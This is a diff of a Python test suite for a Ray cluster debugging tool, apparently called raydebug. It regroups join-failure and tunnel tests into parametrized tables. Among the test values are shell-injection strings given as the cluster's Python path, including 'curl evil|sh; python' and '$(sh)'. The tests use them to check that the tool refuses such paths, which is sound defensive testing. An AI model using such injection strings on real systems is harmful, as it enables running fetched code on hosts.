@@ -13,7 +13,7 @@ import subprocess
 import sys
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
@@ -126,16 +126,6 @@ def test_an_answer_that_lies(tmp_path, changed, says):
         node_jobs._read(cluster, "job", json.dumps({**ANSWER, **changed}))
     assert (raised.value.code, says in raised.value.cause) == ("joined.bad-answer", True), raised.value
     assert node_jobs._read(cluster, "job", json.dumps(ANSWER))["ports"] == [1, 2]
-
-
-@pytest.mark.parametrize("text", ["{", "[" * 100_000, "3", json.dumps({**ANSWER, "ports": "x"})])
-def test_a_gateway_whose_answer_lies(dashboard, text):
-    """Where the answer cannot be read, the gateway's job and the token's files do not stay."""
-    lie = f"{on_nodes.MARK}{text}\n"
-    dashboard.answer = lambda request: lie if request["do"] == "join" else dashboard.usual(request)
-    refused(dashboard, "joined.bad-answer")
-    assert (dashboard.jobs, read_record("x")) == ({}, None)
-    assert [one["do"] for one in dashboard.asked] == ["join", "leave"]
 
 
 def test_half_a_line(dashboard):
@@ -274,21 +264,100 @@ def test_ctrl_c_while_joining(dashboard):
     assert (dashboard.jobs, read_record("x")) == ({}, None)
 
 
-def test_a_job_whose_submission_was_not_answered(dashboard):
-    """A job that Ray has taken, though it answers with an error, does not stay."""
-    dashboard.refuse = lambda what: 500 if what == "POST /api/jobs/" and len(dashboard.asked) == 1 else None
-    refused(dashboard, "ray.refused")
-    assert (dashboard.jobs, read_record("x")) == ({}, None)
+LIE = f"{on_nodes.MARK}%s\n"
+OLD_PYTHON = "Unknown option: -P\nusage: python [option] ... [-c cmd | -m mod | file | -]\nTry `python -h' for more.\n"
 
 
-def test_a_submission_that_is_refused(dashboard, monkeypatch):
-    """Where Ray takes no job, nothing is asked of the nodes, and no record and no token stay."""
+def answers(text: str) -> Callable[[JoinableDashboard], object]:
+    """Return what makes the nodes answer a join with a text, and all else as usual."""
+
+    def prepare(dashboard: JoinableDashboard) -> None:
+        dashboard.answer = lambda request: text if request["do"] == "join" else dashboard.usual(request)
+
+    return prepare
+
+
+def refuse_submissions(dashboard: JoinableDashboard, *, takes_them: bool) -> None:
+    """Answer a submission with 500, whether the job is taken or not."""
+    dashboard.refuse = lambda what: 500 if what == "POST /api/jobs/" and len(dashboard.asked) <= 1 else None
+    if not takes_them:
+        dashboard._submit = lambda _: (200, {})  # type: ignore[method-assign]
+
+
+# Fault, the way to the head, the error's code, a part of its cause, and what the nodes were asked to do.
+FIRST_JOINS: dict[str, tuple[Callable[[JoinableDashboard], object], str | None, str, str, list[str]]] = {
+    **{
+        f"an answer that lies: {text[:9]}": (answers(LIE % text), None, "joined.bad-answer", "", ["join", "leave"])
+        for text in ("{", "[" * 100_000, "3", json.dumps({**ANSWER, "ports": "x"}))
+    },
+    "a submission that was not answered": (
+        lambda there: refuse_submissions(there, takes_them=True), None, "ray.refused", "", ["join", "leave"],
+    ),
+    "a submission that is refused": (
+        lambda there: refuse_submissions(there, takes_them=False), None, "ray.refused", "", [],
+    ),
+    "an old Python": (
+        answers(OLD_PYTHON), None, "joined.no-raydebug", "the head: its Python is older than 3.11", ["join"],
+    ),
+    "no head that is alive": (
+        lambda there: setattr(there, "nodes", [{**HEAD, "state": "DEAD"}]), None, "joined.no-head", "", [],
+    ),
+    **{
+        f"a way that is none: {way}": (lambda there: None, way, "joined.options", "", [])
+        for way in ("ssh 'head", "ssh", "ssh -p", "ssh --host head")
+    },
+    **{  # what the dashboard calls the cluster's Python is run there only if it is a plain path
+        f"a Python that a shell would read: {python}": (
+            lambda there, python=python: setattr(there, "python", python), "env A=b", "joined.python", "", [],
+        )
+        for python in ("curl evil|sh; python", "/opt/py thon", "/x;sh", "$(sh)", "/x\npython")
+    },
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("fault", FIRST_JOINS)
+def test_a_first_join_that_fails(dashboard, monkeypatch, fault):
+    """It is refused with its reason, and leaves no job, no record, no token, and nothing on the nodes."""
     monkeypatch.setattr(joined, "COMES_WITHIN_S", 0.1)
-    dashboard.refuse = lambda what: 500 if what == "POST /api/jobs/" else None
-    dashboard._submit = lambda _: (200, {})
-    refused(dashboard, "ray.refused")
-    assert dashboard.seen.count("POST /api/jobs/") == 1
-    assert (read_record("x"), (state.clusters_dir() / "x" / "token").exists()) == (None, False)
+    prepare, through, code, cause, asked = FIRST_JOINS[fault]
+    prepare(dashboard)
+    assert cause in refused(dashboard, code, through).cause
+    assert [request["do"] for request in dashboard.asked] == asked
+    assert (dashboard.running(), read_record("x"), ways_to(dashboard)) == ([], None, [])
+    assert not (state.clusters_dir() / "x" / "token").exists()
+
+
+def stop_the_gateway(dashboard: JoinableDashboard) -> None:
+    """End the gateway's job, and have the next one fail."""
+    for job in dashboard.jobs.values():
+        job["status"] = "FAILED"
+    dashboard.answer = lambda _: "Traceback\nNo module named raydebug\n"
+
+
+SECOND_JOINS: dict[str, tuple[Callable[[JoinableDashboard], object], str]] = {
+    "a head that is busy": (
+        lambda there: setattr(there, "refuse", lambda what: 503 if "/jobs/raydebug" in what else None), "ray.refused",
+    ),
+    "a gateway that is not started again": (stop_the_gateway, "joined.no-raydebug"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("fault", SECOND_JOINS)
+def test_a_second_join_that_fails(dashboard, fault):
+    """The record is the one before, with the job whose log says why the gateway has ended; no other one runs."""
+    cluster = join(dashboard)
+    running = dashboard.running()
+    prepare, code = SECOND_JOINS[fault]
+    prepare(dashboard)
+    refused(dashboard, code)
+    assert read_record("x") == cluster
+    assert set(dashboard.running()) <= set(running)
+
+
+def test_a_head_that_was_replaced(dashboard):
+    """A head that is dead does not count."""
+    dashboard.nodes = [{**HEAD, "node_id": "n0", "node_ip": "10.9.9.9", "state": "DEAD"}, HEAD]
+    assert join(dashboard).there.head == "127.0.0.1"
 
 
 def test_what_cannot_be_undone(dashboard, monkeypatch, capsys):
@@ -327,25 +396,6 @@ def test_down_on_a_busy_head(dashboard):
     dashboard.jobs["raydebug-gateway-1"] = running
     dashboard.refuse = lambda what: 500 if what.endswith("/stop") or "GET /api/jobs/r" in what else None
     assert not node_jobs.stop_job(cluster, "raydebug-gateway-1", limit_s=0.3)
-
-
-def test_joining_again_on_a_busy_head(dashboard):
-    """An answer that says nothing of the gateway's job starts no second gateway; the record stays as it was."""
-    cluster = join(dashboard)
-    dashboard.refuse = lambda what: 503 if cluster.there.job in what else None
-    refused(dashboard, "ray.refused")
-    assert len(dashboard.asked) == 1
-    assert read_record("x") == cluster
-
-
-def test_a_gateway_that_is_not_started_again(dashboard):
-    """Where a second join fails, the record is the one before, with the job whose log says why the gateway ended."""
-    cluster = join(dashboard)
-    dashboard.jobs[cluster.there.job]["status"] = "FAILED"
-    dashboard.answer = lambda _: "Traceback\nNo module named raydebug\n"
-    refused(dashboard, "joined.no-raydebug")
-    assert read_record("x") == cluster
-    assert dashboard.running() == []
 
 
 def test_a_ray_that_now_asks_for_a_token(dashboard, monkeypatch):
@@ -434,25 +484,6 @@ def test_nodes_that_lack_something(dashboard):
     )
 
 
-def test_nodes_with_an_old_python(dashboard):
-    """A cluster of Python 3.10, which says only that it knows no -P, is refused with what it needs; nothing is left."""
-    usage = "Unknown option: -P\nusage: python [option] ... [-c cmd | -m mod | file | -]\nTry `python -h' for more.\n"
-    dashboard.answer = lambda _: usage
-    error = refused(dashboard, "joined.no-raydebug")
-    assert error.cause == "the head: its Python is older than 3.11 (/opt/python)"
-    assert error.fix.startswith("install it on all nodes, Python 3.11 or later;")
-    assert (dashboard.running(), read_record("x")) == ([], None)
-
-
-def test_no_head_that_is_alive(dashboard):
-    """A head that was replaced does not count; without one the error says so."""
-    dead = {**HEAD, "node_id": "n0", "node_ip": "10.9.9.9", "state": "DEAD"}
-    dashboard.nodes = [dead, HEAD]
-    assert join(dashboard).there.head == "127.0.0.1"
-    dashboard.nodes = [dead]
-    refused(dashboard, "joined.no-head")
-
-
 # Programs on the nodes
 
 
@@ -499,6 +530,8 @@ def test_a_folder_that_cannot_be_entered(tmp_path):
 
 # The way to the head
 
+THERE = "/opt/python -P -m raydebug.cluster.reach there 5678"
+
 
 @pytest.mark.parametrize(
     ("through", "command"),
@@ -506,18 +539,12 @@ def test_a_folder_that_cannot_be_entered(tmp_path):
         ("ssh head", "ssh -o ControlMaster=no -W 127.0.0.1:5678 head"),
         ("ssh -p 22 me@head -v", "ssh -o ControlMaster=no -W 127.0.0.1:5678 -p 22 me@head -v"),
         ("/usr/bin/ssh -J 'jump host' head", "/usr/bin/ssh -o ControlMaster=no -W 127.0.0.1:5678 -J|jump host|head"),
-        (
-            "ssh head docker exec -i ray",
-            "ssh head docker exec -i ray /opt/python -P -m raydebug.cluster.reach there 5678",
-        ),
-        ("srun -w head", "srun --unbuffered -w head /opt/python -P -m raydebug.cluster.reach there 5678"),
-        (
-            "env -u A /bin/srun x",
-            "env -u A /bin/srun --unbuffered x /opt/python -P -m raydebug.cluster.reach there 5678",
-        ),
-        ("ssh head srun", "ssh head srun --unbuffered /opt/python -P -m raydebug.cluster.reach there 5678"),
-        ("srun -u -w head", "srun -u -w head /opt/python -P -m raydebug.cluster.reach there 5678"),
-        ("kubectl exec -i p --", "kubectl exec -i p -- /opt/python -P -m raydebug.cluster.reach there 5678"),
+        ("ssh head docker exec -i ray", f"ssh head docker exec -i ray {THERE}"),
+        ("srun -w head", f"srun --unbuffered -w head {THERE}"),
+        ("env -u A /bin/srun x", f"env -u A /bin/srun --unbuffered x {THERE}"),
+        ("ssh head srun", f"ssh head srun --unbuffered {THERE}"),
+        ("srun -u -w head", f"srun -u -w head {THERE}"),
+        ("kubectl exec -i p --", f"kubectl exec -i p -- {THERE}"),
     ],
 )
 def test_the_command_of_a_connection(through, command):
@@ -525,30 +552,6 @@ def test_the_command_of_a_connection(through, command):
     words = command.replace("-J|jump host|head", "-J jump\0host head").split(" ")
     made = tunnel.command_of(through, "/opt/python")
     assert [word.replace(reach.FAR_PORT, "5678") for word in made] == [word.replace("\0", " ") for word in words]
-
-
-@pytest.mark.parametrize("through", ["ssh 'head", "ssh", "ssh -p", "ssh --host head"])
-def test_a_command_that_is_none(dashboard, through):
-    """A command that cannot be read is refused before anything is started."""
-    refused(dashboard, "joined.options", through)
-    assert dashboard.asked == []
-
-
-@pytest.mark.parametrize("python", ["curl evil|sh; python", "/opt/py thon", "/x;sh", "$(sh)", "/x\npython"])
-def test_a_python_that_a_shell_would_read(dashboard, python):
-    """What the dashboard calls the cluster's Python is run there only if it is a plain path; ssh needs none."""
-    dashboard.python = python
-    refused(dashboard, "joined.python", "env A=b")
-    assert dashboard.asked == []
-    assert read_record("x") is None
-    assert tunnel.command_of("ssh head", python) == [
-        "ssh",
-        "-o",
-        "ControlMaster=no",
-        "-W",
-        f"127.0.0.1:{reach.FAR_PORT}",
-        "head",
-    ]
 
 
 def test_a_way_that_changes(dashboard):
@@ -568,36 +571,34 @@ def test_a_way_that_changes(dashboard):
     assert not psutil.pid_exists(last.supervisor_pid)
 
 
-def test_a_way_that_fails_at_a_second_join(dashboard):
-    """A command that does not work leaves the earlier join as it was, with its way."""
+@pytest.mark.parametrize("fault", ["fails", "does not listen", "no URL", "Ctrl-C"])
+def test_a_way_at_a_second_join(dashboard, monkeypatch, fault):
+    """Where the new way fails, cannot be started or is cut off, the earlier join stays as it was, with its way open."""
     dashboard.python = sys.executable
     first = join(dashboard, "env A=b")
-    refused(dashboard, "joined.no-way", "false")
-    found = read_record("x")
-    assert found is not None
-    # Its ports may be others: another program may have taken them meanwhile.
-    assert (found.there.through, found.there.job) == (first.there.through, first.there.job)
-    assert "A=b" in psutil.Process(found.supervisor_pid).cmdline()
-    socket.create_connection(("127.0.0.1", found.ports["gateway"])).close()
-    assert joined.leave(found) == []
+    joined_before, listens, started = len(dashboard.asked), iter([False]), tunnel._listens
+    asked = joined.asked_at("http://[::1]:8265" if fault == "no URL" else dashboard.url, "x")
 
+    def press(what: str) -> int | None:
+        if what == "GET /api/version" and fault == "Ctrl-C":
+            os.kill(os.getpid(), signal.SIGINT)
+        return None
 
-@pytest.mark.parametrize("url", [None, "http://[::1]:8265"], ids=["no process", "no URL"])
-def test_a_way_that_does_not_start_at_a_second_join(dashboard, monkeypatch, url):
-    """Where the process that listens cannot be started, or is not even tried, the earlier join and its way stay."""
-    dashboard.python = sys.executable
-    first = join(dashboard, "env A=b")
-    asked = joined.asked_at(url or dashboard.url, "x")
-    listens, started = iter([False]), tunnel._listens
-    monkeypatch.setattr(tunnel, "_listens", lambda cluster: next(listens, True) and started(cluster))
+    dashboard.refuse = press
+    if fault == "does not listen":
+        monkeypatch.setattr(tunnel, "_listens", lambda cluster: next(listens, True) and started(cluster))
     monkeypatch.setattr(joined, "earlier_join", lambda *_: first)
-    with pytest.raises(RaydebugError) as raised:
-        joined.join(UpOptions(name="x"), asked, "env A=c", on_phase=lambda _: None)
-    assert raised.value.code == ("joined.no-way" if url is None else "joined.options")
+    with notice_interrupts(), pytest.raises((RaydebugError, KeyboardInterrupt)) as raised:
+        joined.join(UpOptions(name="x"), asked, "false" if fault == "fails" else "env A=c", on_phase=lambda _: None)
+    codes = {"no URL": "joined.options", "Ctrl-C": None}
+    assert getattr(raised.value, "code", None) == codes.get(fault, "joined.no-way")
+    dashboard.refuse = lambda _: None
+    assert len(dashboard.asked) == joined_before
     found = read_record("x")
     assert found is not None
     assert (found.there.through, found.there.job) == (first.there.through, first.there.job)  # its ports may be others
     assert [("A=b" in way.cmdline(), way.pid) for way in ways_to(dashboard)] == [(True, found.supervisor_pid)]
+    socket.create_connection(("127.0.0.1", found.ports["gateway"])).close()
     assert joined.leave(found) == []
 
 
@@ -613,29 +614,6 @@ def test_ctrl_c_while_a_way_starts(dashboard, monkeypatch):
         join(dashboard, "env A=b")
     assert ways_to(dashboard) == []
     assert read_record("x") is None
-
-
-def test_ctrl_c_at_a_second_join(dashboard):
-    """The earlier way is opened again, though that waits until it listens, and Ctrl-C was pressed before."""
-    dashboard.python = sys.executable
-    first = join(dashboard, "env A=b")
-    joined_before = len(dashboard.asked)
-
-    def press(asked: str) -> int | None:
-        if asked == "GET /api/version":
-            os.kill(os.getpid(), signal.SIGINT)
-        return None
-
-    dashboard.refuse = press
-    with notice_interrupts(), pytest.raises(KeyboardInterrupt):
-        join(dashboard, "env A=c")
-    dashboard.refuse = lambda _: None
-    assert len(dashboard.asked) == joined_before
-    found = read_record("x")
-    assert found is not None
-    assert (found.there.through, found.there.job) == (first.there.through, first.there.job)
-    assert "A=b" in psutil.Process(found.supervisor_pid).cmdline()
-    assert joined.leave(found) == []
 
 
 def test_no_tunnel_of_a_cluster_that_is_gone(dashboard, monkeypatch):
